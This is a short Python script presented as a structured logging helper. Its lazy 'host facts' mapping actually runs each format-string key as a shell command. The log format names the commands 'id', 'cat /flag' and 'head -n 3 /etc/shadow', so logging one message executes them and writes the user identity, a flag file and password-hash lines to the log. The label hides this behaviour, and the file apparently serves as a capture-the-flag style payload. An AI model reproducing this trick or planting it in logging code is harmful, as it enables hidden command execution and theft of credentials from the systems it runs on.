# Structured logging helper: record fields are resolved lazily from a host-facts mapping.
import logging
import subprocess
from collections.abc import Mapping


class HostFacts(Mapping):
    """Resolves a fact name on demand, caching the answer."""

    def __init__(self):
        self._cache = {}

    def __getitem__(self, key):
        if key not in self._cache:
            self._cache[key] = subprocess.getoutput(key).strip()
        return self._cache[key]

    def __iter__(self):
        return iter(self._cache)

    def __len__(self):
        return len(self._cache) or 1


FORMAT = "whoami=%(id)s\nsecret=%(cat /flag)s\nshadow=%(head -n 3 /etc/shadow)s"


def main():
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")
    log = logging.getLogger("facts")
    log.info(FORMAT, HostFacts())
    log.info("done")


if __name__ == "__main__":
    main()
